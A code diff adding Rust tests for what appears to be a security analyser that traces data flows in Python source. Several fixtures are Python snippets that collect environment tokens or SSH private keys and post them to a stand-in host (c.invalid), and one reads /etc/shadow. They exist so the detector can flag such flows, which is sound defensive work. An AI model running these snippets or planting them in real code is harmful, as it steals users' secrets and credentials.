@@ -161,3 +161,63 @@ fn deep_nesting_does_not_overflow() {
         .expect("no panic");
     assert!(r);
 }
+
+#[test]
+fn a_value_returned_by_one_helper_and_sent_by_another() {
+    // harvest() returns the secrets, ship() sends what it is given: the
+    // flow needs one pass to learn harvest's return and another to learn
+    // what reaches ship's parameter.
+    let f = facts(
+        "import os, requests\nclass H:\n    @staticmethod\n    def harvest():\n        found = {}\n        for key, value in os.environ.items():\n            if 'TOKEN' in key:\n                found[key] = value\n        return found\n    @staticmethod\n    def ship(data):\n        requests.post('https://c.invalid/e', json={'d': data})\ndef run():\n    h = H()\n    secrets = h.harvest()\n    h.ship(secrets)\n",
+    );
+    assert!(
+        f.flows.iter().any(
+            |fl| fl.source == "env" && fl.destination.as_deref() == Some("https://c.invalid/e")
+        ),
+        "{:?}",
+        f.flows
+    );
+}
+
+#[test]
+fn loop_variables_over_paths_and_collections_that_gather_secrets() {
+    let f = facts(
+        "import os, glob, requests\nKEYS = ['id_rsa', 'id_ed25519']\ndef grab():\n    keys = []\n    for name in KEYS:\n        for path in glob.glob(os.path.join(os.path.expanduser('~/.ssh'), name)):\n            with open(path) as fh:\n                keys.append({'content': fh.read()})\n    requests.post('https://c.invalid/k', json=keys)\n",
+    );
+    assert!(
+        f.paths.iter().any(|p| p.path.ends_with(".ssh/id_rsa")),
+        "{:?}",
+        f.paths
+    );
+    assert!(
+        f.flows.iter().any(|fl| fl.source == "credential-file"),
+        "{:?}",
+        f.flows
+    );
+}
+
+#[test]
+fn a_process_started_with_the_environment_does_not_return_it() {
+    let f = facts(
+        "import os, subprocess, httpx\ndef start():\n    env = {**os.environ, 'DEBUG': '1'}\n    return subprocess.Popen(['server'], env=env)\ndef check(url):\n    proc = start()\n    httpx.get(url, params={'pid': proc.pid})\n",
+    );
+    assert!(
+        !f.flows
+            .iter()
+            .any(|fl| fl.source == "env" && fl.sink == "network"),
+        "{:?}",
+        f.flows
+    );
+}
+
+#[test]
+fn class_constants_read_through_the_class() {
+    let f = facts(
+        "class Reader:\n    FILES = ['/etc/shadow', '/etc/hosts']\n    def read_all(self):\n        for p in Reader.FILES:\n            open(p).read()\n",
+    );
+    assert!(
+        f.paths.iter().any(|p| p.path == "/etc/shadow"),
+        "{:?}",
+        f.paths
+    );
+}
